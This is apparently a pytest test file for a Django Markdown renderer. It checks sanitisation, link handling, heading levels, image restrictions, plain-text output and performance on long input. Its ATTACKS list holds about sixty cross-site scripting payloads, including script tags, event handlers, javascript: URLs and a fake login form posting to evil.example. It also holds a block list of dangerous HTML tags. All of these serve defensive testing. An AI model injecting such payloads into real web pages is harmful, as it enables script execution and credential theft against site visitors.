"""Markdown: what authors wrote is shown, and nothing that they wrote runs."""

import re
import time
from html.parser import HTMLParser

import pytest
from django.template import Context, Template

from presenters.markdown import to_html, to_paragraphs, to_plain_text

LONGEST_TEXT = 20_000

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0c>alert(1)</script>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=/ok.png onload=alert(1)>",
    "<img src='javascript:alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>press</math>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=position:fixed;inset:0>over everything</p>",
    "<b onmouseover=alert(1)>bold</b>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=https://evil.example/v.mp4 onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<a href='javascript:alert(1)'>press</a>",
    "<a href='JaVaScRiPt:alert(1)'>press</a>",
    "<a href='java&#10;script:alert(1)'>press</a>",
    "<a href='java\tscript:alert(1)'>press</a>",
    "<a href=' &#14; javascript:alert(1)'>press</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>press</a>",
    "<a href='vbscript:msgbox(1)'>press</a>",
    '<a href="/x" title="\'><script>alert(1)</script>">press</a>',
    "[press](javascript:alert(1))",
    "[press](<javascript:alert(1)>)",
    "[press](java&#115;cript:alert(1))",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[press](/x "\' onclick=alert(1) x=")',
    "[press][x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![" onerror=alert(1) x="](/x.png)',
    '![x](/x.png" onerror=alert(1) x=")',
    "```<script>alert(1)</script>\ncode\n```",
    '``` x" onclick=alert(1)\ncode\n```',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    'http://example.org/"onmouseover=alert(1)//',
    'www.example.org/"onmouseover=alert(1)//',
    "<div class=scroller onscroll=alert(1) style=overflow:scroll>x</div>",
    "<p id=root name=root class=page>clobbered</p>",
]

HARMLESS_ATTRIBUTES = {
    "href", "title", "rel", "src", "alt", "loading", "start", "colspan", "rowspan", "scope",
    "class", "role", "aria-label", "tabindex",
}  # fmt: skip
DANGEROUS_TAGS = {
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "textarea", "select", "base", "meta",
    "link", "svg", "math", "video", "audio", "source", "template", "noscript", "xmp", "frame", "frameset", "applet",
}  # fmt: skip


class Elements(HTMLParser):
    """Every element of a page with its attributes."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_an_author_writes_runs(attack: str) -> None:
    for written in (attack, f"Before {attack} after.", f"> {attack}", f"- {attack}"):
        elements = Elements(to_html(written)).found

        assert {tag for tag, _ in elements} & DANGEROUS_TAGS == set()
        for tag, attributes in elements:
            assert set(attributes) - HARMLESS_ATTRIBUTES == set(), tag
            for name in ("href", "src"):
                value = attributes.get(name) or ""
                assert not re.match(r"[^/?#]*:", value) or re.match(r"(?:https?|mailto):", value), value
            if tag == "img":
                assert re.match(r"/(?![/\\])", attributes.get("src") or "/"), attributes
            assert (attributes.get("class") or "scroller") == "scroller"


@pytest.mark.parametrize("attack", ATTACKS)
def test_plain_text_of_an_attack_is_text_for_the_template_to_escape(attack: str) -> None:
    shown = Template('{% load markdown %}<meta content="{{ text|plain }}">').render(Context({"text": attack}))

    assert [tag for tag, _ in Elements(shown).found] == ["meta"]


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("A *b* **c** `d`", "<p>A <em>b</em> <strong>c</strong> <code>d</code></p>"),
        ("one\ntwo", "<p>one\ntwo</p>"),
        ("~~gone~~", "<p><s>gone</s></p>"),
        ("I <3 Django & Python", "<p>I &lt;3 Django &amp; Python</p>"),
        ("put `<script>` last", "<p>put <code>&lt;script&gt;</code> last</p>"),
        ("    <script>\n", '<pre tabindex="0"><code>&lt;script&gt;\n</code></pre>'),
        ("```html\n<script>\n```", '<pre tabindex="0"><code>&lt;script&gt;\n</code></pre>'),
        ("We cover:\n- one\n- two", "<p>We cover:</p>\n<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("We cover:\n1. one", "<p>We cover:</p>\n<ol>\n<li>one</li>\n</ol>"),
        ("Founded in\n1987. A good year.", "<p>Founded in\n1987. A good year.</p>"),
        ("3. three", '<ol start="3">\n<li>three</li>\n</ol>'),
        ("a  \nb", "<p>a<br>\nb</p>"),
        ('press <kbd>F5</kbd>, H<sub>2</sub>O, <abbr title="a">b</abbr>',
         '<p>press <kbd>F5</kbd>, H<sub>2</sub>O, <abbr title="a">b</abbr></p>'),
        ('see <a href="https://example.org" target="_blank">this</a>',
         '<p>see <a href="https://example.org" rel="noopener">this</a></p>'),
        ("<details><summary>More</summary>text</details>", "<details><summary>More</summary>text</details>"),
        ("before <q>never closed", "<p>before <q>never closed</q></p>"),
        ("too many ends</div></main></body>", "<p>too many ends</p>"),
        ("<!-- a note to myself -->shown", "shown"),
        ("", ""),
    ],
)  # fmt: skip
def test_markdown_is_shown_as_its_author_meant_it(written: str, shown: str) -> None:
    assert to_html(written).strip() == shown


@pytest.mark.parametrize(
    ("written", "address", "label"),
    [
        ("see https://example.org/a_b_c.", "https://example.org/a_b_c", "https://example.org/a_b_c"),
        ("(http://example.org/a)", "http://example.org/a", "http://example.org/a"),
        ("HTTP://example.org!", "HTTP://example.org", "HTTP://example.org"),
        ("at www.example.museum/a?b=c&d, today",
         "https://www.example.museum/a?b=c&amp;d", "www.example.museum/a?b=c&amp;d"),
        ("**www.example.dev**", "https://www.example.dev", "www.example.dev"),
        ("<https://example.org/>", "https://example.org/", "https://example.org/"),
        ("<ada@example.org>", "mailto:ada@example.org", "ada@example.org"),
    ],
)  # fmt: skip
def test_an_address_becomes_a_link(written: str, address: str, label: str) -> None:
    assert f'<a href="{address}" rel="noopener">{label}</a>' in to_html(written)


@pytest.mark.parametrize(
    "written",
    [
        "manage.py",
        "Fly.io",
        "example.org",
        "ada@example.org",
        "mailto:ada@example.org",
        "ftp://example.org",
        "//example.org/a",
        "www.",
        "www.nowhere",
        "http://",
        "10.0.0.1",
        "`https://example.org`",
    ],
)
def test_what_is_no_web_address_stays_text(written: str) -> None:
    assert "<a" not in to_html(f"Run {written} now.")


def test_the_highest_heading_gets_the_asked_level_and_the_others_follow_without_a_gap() -> None:
    written = "# One\n\n### Two\n\n<h5>Three</h5>\n\n# Four"

    headings = re.findall(r"<(h\d)>(\w+)</\1>", to_html(written))

    assert headings == [("h3", "One"), ("h4", "Two"), ("h5", "Three"), ("h3", "Four")]


def test_headings_of_a_text_that_starts_low_rise_to_the_asked_level() -> None:
    assert to_html("#### One", 2).strip() == "<h2>One</h2>"


def test_headings_never_pass_the_sixth_level() -> None:
    written = "# 1\n## 2\n### 3"

    assert re.findall(r"<h(\d)>", to_html(written, 5)) == ["5", "6", "6"]


def test_a_heading_in_code_is_no_heading() -> None:
    assert to_html("`<h1>` and\n# Real").count("<h3>") == 1
    assert "&lt;h1&gt;" in to_html("`<h1>` and\n# Real")


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("{% raw %}`{% for x in y %}`{% endraw %}", "<p><code>{% for x in y %}</code></p>"),
        ("a {%- raw -%}{{ b }}{%- endraw -%} c", "<p>a {{ b }} c</p>"),
        ("{% raw %}a{% endraw %} {% raw %}b{% endraw %}", "<p>a b</p>"),
        ("the `{% raw %}` tag", "<p>the <code>{% raw %}</code> tag</p>"),
        ("the `{% endraw %}` tag", "<p>the <code>{% endraw %}</code> tag</p>"),
        ("{% rawhide %}a{% endraw %}", "<p>{% rawhide %}a{% endraw %}</p>"),
        ("{% if x %} and {{ y }}", "<p>{% if x %} and {{ y }}</p>"),
    ],
)
def test_a_liquid_wrapper_goes_and_its_content_stays(written: str, shown: str) -> None:
    assert to_html(written).strip() == shown


def test_a_table_scrolls_by_keyboard_and_aligns_without_inline_style() -> None:
    shown = to_html("| a | b |\n|---|--:|\n| 1 | 2 |")

    assert shown.startswith('<div class="scroller" role="group" aria-label="Table" tabindex="0">\n<table>')
    assert shown.rstrip().endswith("</table>\n</div>")
    assert '<th class="align-right">b</th>' in shown
    assert '<td class="align-right">2</td>' in shown
    assert "style" not in shown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![A graph](/media/graph.png)", '<img src="/media/graph.png" alt="A graph" loading="lazy">'),
        ("![A *fine* graph](https://elsewhere.example/g.png)",
         '<a href="https://elsewhere.example/g.png" rel="noopener">A fine graph</a>'),
        ("![](https://elsewhere.example/g.png)",
         '<a href="https://elsewhere.example/g.png" rel="noopener">https://elsewhere.example/g.png</a>'),
        ("![A graph](//elsewhere.example/g.png)", '<a href="//elsewhere.example/g.png" rel="noopener">A graph</a>'),
        ("[![badge](https://elsewhere.example/b.svg)](https://pypi.example)",
         '<a href="https://pypi.example" rel="noopener">badge</a>'),
        ('<img src="https://elsewhere.example/g.png" alt="A graph">', '<img loading="lazy" alt="A graph">'),
        ('<img src="/\\elsewhere.example/g.png" alt="A graph">', '<img loading="lazy" alt="A graph">'),
        ('<img src="/&#9;/elsewhere.example/g.png" alt="A graph">', '<img loading="lazy" alt="A graph">'),
    ],
)  # fmt: skip
def test_no_picture_comes_from_another_site(written: str, shown: str) -> None:
    elements = Elements(to_html(f"See {written}.")).found

    assert elements[1:] == Elements(shown).found


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Some **bold**text and `<code>`", "Some boldtext and <code>"),
        ("# Title\n\nFirst.\n\n- a\n- b", "Title First. a b"),
        ("AT&amp;T <3 & [a link](https://example.org)", "AT&T <3 & a link"),
        ("  \n", ""),
    ],
)
def test_plain_text_is_what_a_reader_sees_on_one_line(written: str, shown: str) -> None:
    assert to_plain_text(written) == shown


@pytest.mark.parametrize(
    ("length", "shown"),
    [
        (100, "One two, three"),
        (14, "One two, three"),
        (13, "One two…"),
        (9, "One two…"),
        (8, "One…"),
        (5, "One…"),
        (3, "On…"),
    ],
)
def test_plain_text_is_cut_at_a_word(length: int, shown: str) -> None:
    assert to_plain_text("One two, three", length) == shown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("# Title\n\nFirst\nline.\n\nSecond \\\nline.", "Title\n\nFirst line.\n\nSecond\nline."),
        ("To do:\n- one\n- **two**\n\nDone.", "To do:\n\n- one\n- two\n\nDone."),
        ("1. first\n\n   more\n\n2. second", "- first\n\nmore\n\n- second"),
        ("```\nx = 1\ny = <2>\n```\n> said", "x = 1\ny = <2>\n\nsaid"),
        ("Before\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nAfter", "Before\n\na b\n1 2\n\nAfter"),
        ("<div>raw</div>\n\nAT&amp;T <3\x1e&#30;&#x1D;!", "raw\n\nAT&T <3 !"),
        ("  \n", ""),
    ],
)
def test_paragraphs_are_what_a_reader_sees_block_by_block(written: str, shown: str) -> None:
    assert to_paragraphs(written) == shown


def test_the_filters_render_and_escape() -> None:
    template = Template("{% load markdown %}{{ text|markdown:2 }}{{ text|plain:9 }}")

    shown = template.render(Context({"text": "# Q&A, `<b>` and more"}))

    assert shown == "<h2>Q&amp;A, <code>&lt;b&gt;</code> and more</h2>\nQ&amp;A, &lt;b&gt;…"


@pytest.mark.parametrize(
    "unit",
    ["[", "![a](", "> ", "*a _b ", "**", "_a__", "`", "~~a", "<", "<a ", "<!--", "<![CDATA[", "<?", "<div>", "&#", "\\",
     "- ", "* ", "1) ", "](", "[a](<b", "[a]: <", "# a\n", "|", "|a|\n|-|\n", "www.", "www.a.", "http://", "http://a@",
     "http://a.b/(", "{% raw %}", "{% raw ", "{%" + " " * 50, "{% raw %}a{% endraw %}", "\u2028", "\t", "🦄"],
)  # fmt: skip
def test_no_text_of_the_longest_length_keeps_a_page_waiting(unit: str) -> None:
    written = (unit * LONGEST_TEXT)[:LONGEST_TEXT]
    started_at = time.process_time()

    to_html(written)
    to_paragraphs(written)

    # The slowest takes a quarter of a second; what is not linear takes minutes.
    assert time.process_time() - started_at < 5


@pytest.mark.parametrize("written", ["&#0; &#xD800; &#x110000;", "\ufffe\uffff\u200b\u2028", "\r\n\r", "\x00\x01\x1f"])
def test_odd_characters_are_no_error(written: str) -> None:
    assert "<" not in to_plain_text(written) + to_paragraphs(written)
    assert to_html(written).startswith("<p>") is (written.strip() != "")
